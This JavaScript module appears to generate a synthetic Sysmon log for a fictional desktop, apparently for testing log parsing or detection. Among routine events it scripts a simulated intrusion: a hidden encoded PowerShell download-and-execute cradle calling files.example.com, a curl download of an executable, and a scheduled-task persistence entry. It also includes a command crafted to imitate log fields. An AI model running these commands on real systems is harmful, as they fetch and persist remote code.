/** DESKTOP-HT02, whose user saved her Sysmon log from Event Viewer as CSV: a quiet day, and three minutes that are not. */
import { desktopBasics, everyday } from './background.mjs';
import { encoded } from './desktop.mjs';
import { Sysmon } from './sysmon.mjs';
import { at, DOMAIN_SID, Host } from './world.mjs';

const S32 = 'C:\\Windows\\System32\\';
const POWERSHELL = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;

export function neighbour() {
  const host = new Host({
    name: 'DESKTOP-HT02',
    id: 'c45d8e02',
    ip: '10.20.30.42',
    seed: 20260319,
    booted: at('08:31:55'),
  });
  const sysmon = new Sysmon(host);
  const user = host.logon({ user: '이서연', sid: `${DOMAIN_SID}-1107`, logonId: 0x3f9c41, ms: at('08:40:10') });
  const basics = desktopBasics(host, user, at('08:40:11'));
  sysmon.write(16, at('13:30:02.118'), {
    Configuration: 'C:\\Tools\\Sysmon\\sysmonconfig.xml',
    ConfigurationFileHash: 'SHA256=3B1F0C6D9E24A7785C1D2E3F4051627384950A1B2C3D4E5F60718293A4B5C6D7',
  });
  sysmon.write(4, at('13:30:02.490'), { State: 'Started', Version: '15.15', SchemaVersion: '4.90' });
  everyday(sysmon, basics, user, { from: at('13:31:00'), to: at('14:52:00'), count: 40 });

  const run = (time, seconds, parent, image, command) =>
    sysmon.start(at(time), { image, command, parent, logon: user, cwd: parent.cwd }, seconds);
  // The same letter had come here; the link was opened too. The script is a line longer, which the log keeps.
  const script =
    "$u = 'http://files.example.com/update/stage.txt'\r\n$s = (New-Object Net.WebClient).DownloadString($u)\r\nInvoke-Expression $s";
  const lure = run(
    '14:38:20.512',
    3,
    basics.explorer,
    `${S32}cmd.exe`,
    `"${S32}cmd.exe" /c powershell.exe -w hidden -enc ${encoded(script)}`,
  );
  const shell = run('14:38:20.790', 48, lure, POWERSHELL, `powershell.exe  -w hidden -enc ${encoded(script)}`);
  sysmon.query(at('14:38:21.906'), shell, 'files.example.com', '192.0.2.45');
  sysmon.connect(at('14:38:21.960'), shell, '192.0.2.45', 80, { name: 'files.example.com', service: 'http' });
  const curl = run(
    '14:38:31.207',
    2,
    shell,
    `${S32}curl.exe`,
    `"${S32}curl.exe" -s -o C:\\Users\\이서연\\AppData\\Local\\Temp\\hncupd.exe http://files.example.com/update/hncupd.exe`,
  );
  sysmon.file(at('14:38:31.880'), curl, 'C:\\Users\\이서연\\AppData\\Local\\Temp\\hncupd.exe');
  run(
    '14:38:44.015',
    1,
    shell,
    `${S32}schtasks.exe`,
    'schtasks /create /sc minute /mo 30 /tn "HncUpdateCheck" /tr "C:\\Users\\이서연\\AppData\\Local\\Temp\\hncupd.exe /q" /f',
  );
  sysmon.registry(
    at('14:38:44.230'),
    basics.svchost,
    'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\HncUpdateCheck\\Id',
    '{0F5C2D71-4B8A-4B0D-9C55-18E7A3D2F6B4}',
  );
  // A command whose text has line breaks and looks like fields of the message: it has to stay one value.
  run(
    '14:40:02.660',
    5,
    basics.explorer,
    POWERSHELL,
    `"${POWERSHELL}" -NoProfile -Command "Write-Host 'Image: C:\\note.exe\nUser: nobody'\nGet-Date"`,
  );
  return { host };
}
